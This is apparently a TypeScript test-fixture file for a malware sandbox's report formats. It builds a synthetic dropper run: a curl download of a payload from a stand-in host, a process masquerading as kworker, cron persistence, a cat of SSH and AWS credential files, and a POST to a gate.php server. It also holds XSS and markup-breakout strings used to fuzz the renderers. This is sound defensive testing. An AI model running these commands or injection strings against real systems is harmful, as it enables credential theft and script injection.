import fc from 'fast-check';
import type { Report } from '#domain/report.js';
import type { Assets, ReportFormat } from '#reporting/format.js';
import { matchSignatures } from '#signatures/engine.js';
import { loadSignatures } from '#signatures/load.js';
import { score } from '#signatures/score.js';
import { call, dns, evidence, fileReport, flow, http } from './evidence.js';

const START = 1_800_000_000;

/** What a hostile guest would put where text is shown. */
export const HOSTILE = `"><script>document.title='owned'</script><img src=x onerror=document.title='owned'>\u202egnp.exe\u0000\u001b[31m\n</title></style>`;

/** A rich run of a dropper with hostile text among the rest, matched and scored by the real signatures. */
export async function sampleReport(): Promise<Report> {
  const dropped = (path: string, deleted: boolean, type: string, seed: string) => ({
    ...fileReport({
      name: `${seed.repeat(16)}_${path.split('/').at(-1) ?? ''}`,
      type,
      size: 18_432,
      sha256: seed.repeat(64),
    }),
    filepath: path,
    pids: [104],
    deleted,
    complete: true,
  });
  const base = evidence({
    target: { category: 'file', file: fileReport({ name: 'invoice.sh', size: 1_840 }) },
    strings: ['#!/bin/sh', 'http://cdn.update-check.example/p.bin', HOSTILE],
    dropped: [
      dropped('/tmp/.cache-x/kworker', true, 'ELF 64-bit LSB executable, x86-64, statically linked', 'a'),
      dropped('/etc/cron.d/update', false, 'ASCII text', 'b'),
      dropped(`/tmp/${HOSTILE}`, false, 'data', 'c'),
    ],
    processes: [
      {
        command: 'sh /tmp/invoice.sh',
        summary: {
          file_deleted: ['/tmp/invoice.sh'],
          directory_created: ['/tmp/.cache-x'],
          file_opened: ['/tmp/invoice.sh'],
        },
        calls: [call('unlinkat', ['AT_FDCWD', '/tmp/invoice.sh', '0'], { time: START + 9 })],
      },
      { command: 'uname -a', parent: 1, at: 0.2 },
      { command: 'id', parent: 1, at: 0.3 },
      { command: 'cat /proc/cpuinfo', parent: 1, at: 0.4 },
      {
        command: 'curl -sS -o /tmp/.cache-x/kworker http://cdn.update-check.example/p.bin',
        parent: 1,
        at: 0.9,
        summary: { file_written: ['/tmp/.cache-x/kworker'], connects_ip: ['198.18.0.7:80'] },
      },
      {
        command: 'chmod 755 /tmp/.cache-x/kworker',
        parent: 1,
        at: 2.1,
        summary: { file_chmod: [['/tmp/.cache-x/kworker', '0755']] },
      },
      {
        name: 'kworker/0:1',
        path: '/tmp/.cache-x/kworker',
        command: '[kworker/0:1] --quiet',
        parent: 1,
        at: 2.3,
        exit: null,
        summary: { file_executed: ['/tmp/.cache-x/kworker'], file_written: ['/etc/cron.d/update'] },
        calls: [
          call('prctl', ['PR_SET_NAME', 'kworker/0:1'], { time: START + 2.4 }),
          call('ptrace', ['PTRACE_TRACEME'], { time: START + 2.5, status: 'EPERM', return_value: '-1' }),
        ],
      },
      { command: `sh -c echo ${HOSTILE}`, parent: 7, at: 3, exit: 127 },
      {
        name: 'cat',
        command: 'cat /home/user/.ssh/id_ed25519 /home/user/.aws/credentials',
        parent: 7,
        at: 3.4,
        exit: -9,
        summary: { file_read: ['/home/user/.ssh/id_ed25519', '/home/user/.aws/credentials'] },
      },
      {
        command: 'rm -f /tmp/.cache-x/kworker',
        parent: 1,
        at: 8.8,
        summary: { file_deleted: ['/tmp/.cache-x/kworker'] },
      },
      {
        command: `python3 -c ${'import os;'.repeat(120)}`,
        parent: 7,
        at: 4,
        exit: 1,
        summary: { file_written: [`/tmp/${HOSTILE}`] },
      },
    ],
    network: {
      pcap_sha256: 'd'.repeat(64),
      hosts: ['198.18.0.7', '198.18.0.9'],
      dns: [
        dns('cdn.update-check.example', { process_name: 'curl', pid: 104, time: 0.9 }),
        dns('gate.update-check.example', { process_name: 'kworker/0:1', pid: 106, time: 4.2 }),
        dns(`${HOSTILE}.example`, { time: 5 }),
      ],
      http: [
        http('http://cdn.update-check.example/p.bin', {
          'user-agent': 'curl/7.88.1',
          process_name: 'curl',
          pid: 104,
          time: 1.1,
        }),
        http('http://198.18.0.9/gate.php?id=7', {
          method: 'POST',
          body: `host=debian&user=${HOSTILE}`,
          'user-agent': `Mozilla/4.0 ${HOSTILE}`,
          process_name: 'kworker/0:1',
          pid: 106,
          time: 4.6,
        }),
      ],
      tls: [
        {
          sni: 'gate.update-check.example',
          ja3: 'e7d705a3286e19ea42f587b344ee6865',
          dst: '198.18.0.9',
          dport: 443,
          session_id: '',
          server_random: '',
          time: 5.1,
          pid: 106,
          process_name: 'kworker/0:1',
        },
      ],
      tcp: [
        flow('198.18.0.7', 80, {
          host: 'cdn.update-check.example',
          service: 'http',
          bytes_in: 18_720,
          pid: 104,
          process_name: 'curl',
        }),
        flow('198.18.0.9', 443, {
          host: 'gate.update-check.example',
          service: 'tls',
          time: 5.1,
          pid: 106,
          process_name: 'kworker/0:1',
        }),
      ],
      udp: [flow('10.0.2.3', 53, { service: 'dns', time: 0.8, bytes_out: 40, bytes_in: 56 })],
      dead_hosts: [['203.0.113.77', 4444]],
    },
  });
  const signatures = matchSignatures(base, await loadSignatures());
  const verdict = score(signatures);
  return {
    ...base,
    info: {
      ...base.info,
      id: 7,
      score: verdict.value,
      options: 'arguments=--quiet',
      machine: {
        status: 'stopped',
        name: 'debian-1',
        label: 'debian-1',
        manager: 'qemu',
        started_on: '2027-01-15 08:00:00',
        shutdown_on: '2027-01-15 08:00:27',
      },
    },
    screenshots: Array.from({ length: 12 }, (_, i) => ({
      path: `shots/${String(i).padStart(4, '0')}.png`,
      ocr: i === 0 ? HOSTILE : '',
    })),
    debug: { log: ['analyzer started', HOSTILE], cuckoo: [], action: [], errors: ['one upload was cut'] },
    signatures,
    malkoha: {
      outcome: { status: 'timed_out' },
      phases: {
        acquire: 3,
        restore: 62,
        agent: 71,
        push: 55,
        start: 140,
        run: 24_000,
        collect: 410,
        revert: 95,
      },
      notes: ['The trace was cut at 64 MiB; calls after that are missing.', `A guest said: ${HOSTILE}`],
      score: verdict,
    },
  };
}

const NO_ASSETS: Assets = { screenshot: async () => null };

/** All of a format's bytes. */
export async function rendered(
  format: ReportFormat,
  report: Report,
  assets: Assets = NO_ASSETS,
): Promise<Buffer> {
  const pieces: Uint8Array[] = [];
  for await (const piece of format.render(report, assets)) {
    pieces.push(typeof piece === 'string' ? Buffer.from(piece) : piece);
  }
  return Buffer.concat(pieces);
}

/** A URL task of which nothing is known. */
export function bareReport(more: Partial<Report> = {}): Report {
  const { info, malkoha } = evidence();
  return {
    info,
    target: { category: 'url', url: `http://example.org/${HOSTILE}` },
    signatures: [],
    malkoha: { ...malkoha, score: { value: 0, label: 'no sign of malice', parts: [] } },
    ...more,
  };
}

/** Text that tries to break out of markup, or of the reader's patience. */
export const hostileText = fc.oneof(
  fc.string({ unit: 'binary', minLength: 1, maxLength: 60 }),
  fc.constantFrom(
    HOSTILE,
    '<',
    '"',
    "' onload=x '",
    '--></style><script>',
    '${x}',
    '&lt;',
    '\ud800<b>',
    ']]>',
    '\u2028<svg/onload=x>',
  ),
  fc
    .array(fc.constantFrom('<', '>', '"', "'", '&', '/', 'script', '=', ' ', '\0', '\u202e', '-', '!'), {
      minLength: 1,
    })
    .map((all) => all.join('')),
);

/** What our own code writes, never the guest: enumerations that formats branch on. */
const OURS = new Set(['type', 'category', 'label', 'status', 'outcome', 'severity']);

/** The same value with every text in it replaced, wherever it is, but under OURS and `kept`. */
export function poison<T>(value: T, text: string, kept: readonly string[] = []): T {
  if (typeof value === 'string') return text as T;
  if (Array.isArray(value)) return value.map((each: unknown) => poison(each, text, kept)) as T;
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => [
      key,
      OURS.has(key) || kept.includes(key) ? each : poison<unknown>(each, text, kept),
    ]),
  ) as T;
}

/** A small valid PNG: one grey pixel. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==',
  'base64',
);
